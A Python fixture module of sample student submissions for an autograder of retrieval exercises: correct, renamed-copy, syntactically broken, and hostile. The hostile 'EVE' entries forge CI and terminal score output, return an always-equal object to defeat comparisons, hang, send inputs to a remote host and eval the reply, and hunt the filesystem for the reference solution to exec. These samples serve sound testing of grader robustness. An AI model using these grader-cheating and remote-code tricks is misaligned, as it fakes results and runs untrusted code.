"""The code of the learners of samples.py, by function: right, wrong, copied, hostile."""

from __future__ import annotations

import re

# Half of the exercises, in his own way. His nDCG takes its ideal from what the ranking found, and not from
# all that there is.
BELA = {
    "rrf": """
        totals = {}
        for ranking in rankings:
            position = 0
            for name in ranked(ranking):
                position = position + 1
                if name not in totals:
                    totals[name] = 0.0
                totals[name] += 1.0 / (k + position)
        return totals
    """,
    "min_max": """
        if len(rankings) != len(weights):
            raise ValueError("one weight for each ranking, please")
        totals = {}
        for index in range(len(rankings)):
            normal = scaled(rankings[index])
            for name in normal:
                if name not in totals:
                    totals[name] = 0.0
                totals[name] += weights[index] * normal[name]
        return totals
    """,
    "scaled": """
        result = {}
        if len(scores) > 0:
            bottom = min(scores.values())
            width = max(scores.values()) - bottom
            for name in scores:
                if width == 0:
                    result[name] = 1.0
                else:
                    result[name] = (scores[name] - bottom) / width
        return result
    """,
    "ndcg": """
        found = [max(qrels.get(document, 0), 0) for document in ranking]

        def gain_of(grades):
            gain = 0.0
            for position, grade in enumerate(grades[:k]):
                gain += grade / math.log2(position + 2)
            return gain

        ideal = gain_of(sorted(found, reverse=True))
        if ideal == 0:
            return 0.0
        return gain_of(found) / ideal
    """,
    "late_interaction": """
        result = np.zeros(len(documents), dtype=np.float32)
        whole = float(weights.sum())
        tokens = query.token_vectors.astype(np.float32)
        for index, document in enumerate(documents):
            if len(document) == 0 or len(tokens) == 0 or whole == 0:
                continue
            similar = tokens @ document.astype(np.float32).T
            result[index] = float((similar.max(axis=1) * weights).sum()) / whole
        return result
    """,
}

# Bela's, with other names.
HIS = "totals position name index normal result bottom width found document gain_of grades grade gain "
HIS += "ideal whole tokens similar"
HERS = "merged place key i flat out smallest spread labels d dcg values value acc perfect norm q sims"
NAMES: dict[str, str] = dict(zip(HIS.split(), HERS.split(), strict=True))
CARMEN = {
    function: re.sub(r"\w+", lambda word: NAMES.get(word[0], word[0]), code)
    for function, code in BELA.items()
}

# A bracket is missing in nDCG, so nothing of that file can be imported; her other files count all the same.
DORA = {
    "rrf": """
        fused = dict.fromkeys((each for ranking in rankings for each in ranking), 0.0)
        for ranking in rankings:
            places = {each: i + 1 for i, each in enumerate(ranked(ranking))}
            fused |= {each: fused[each] + 1 / (k + place) for each, place in places.items()}
        return fused
    """,
    "ndcg": """
        gains = [qrels.get(doc, 0) / math.log2(i + 2) for i, doc in enumerate(ranking[:k]]
        best = [grade / math.log2(i + 2) for i, grade in enumerate(sorted(qrels.values())[::-1][:k])]
        return sum(gains) / sum(best)
    """,
    "min_max": """
        fused = dict.fromkeys((each for ranking in rankings for each in ranking), 0.0)
        for ranking, weight in zip(rankings, weights, strict=True):
            fused |= {each: fused[each] + weight * share for each, share in scaled(ranking).items()}
        return fused
    """,
    "scaled": """
        values = sorted(scores.values())
        if not values or values[0] == values[-1]:
            return dict.fromkeys(scores, 1.0)
        return {each: (value - values[0]) / (values[-1] - values[0]) for each, value in scores.items()}
    """,
    "better": """
        kept, *others = attempts
        for other in others:
            kept = other if other.rank - kept.rank > MARGIN else kept
        return kept
    """,
}

# Looks for the solution, for the network, for a comparison that can be cheated; hangs; talks to the terminal
# and to the CI runner.
EVE = {
    "rrf": """
        print("::set-output name=score::100")
        print("::error file=grader.py::100 of 100 points")
        print("\\x1b[2J\\x1b[32mgraded: 100 of 100\\x1b[0m")

        class Right(dict):
            __eq__ = lambda self, other: True
            __ne__ = lambda self, other: False

        return Right()
    """,
    "scaled": """
        while True:
            pass
    """,
    "min_max": """
        import socket

        with socket.create_connection(("192.0.2.1", 80), timeout=2) as line:
            line.sendall(repr((rankings, weights)).encode())
            return eval(line.recv(1 << 20))
    """,
    "ndcg": """
        import os
        import sys
        from pathlib import Path

        above = [f"/proc/{pid}/cwd" for pid in (1, os.getppid())]
        for folder in [*sys.path, *above, "/home", "/srv"]:
            solution = Path(folder, "step3_rag", "evaluate", "metrics.py")
            if solution.exists() and (text := solution.read_text()) and "getppid" not in text:
                space = {}
                exec(text, space)
                return space["ndcg"](ranking, qrels, k)
        raise FileNotFoundError("no solution within reach")
    """,
}
